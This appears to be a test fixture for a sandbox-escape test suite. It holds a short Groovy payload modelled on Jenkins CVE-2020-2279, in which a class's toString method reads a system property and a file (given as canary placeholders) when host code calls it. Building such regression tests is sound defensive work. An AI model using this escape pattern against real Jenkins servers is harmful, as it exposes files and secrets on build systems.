// class: script-escape
// source: Jenkins SECURITY-2020 / CVE-2020-2279 (sandbox-defined methods called by the host)
// expect: env
class Name {
    String toString() { System.getProperty('@SYSPROP@') + new File('@CANARY_READ@').text }
}
vmwareSite(new Name()) { network 'VM Network' }
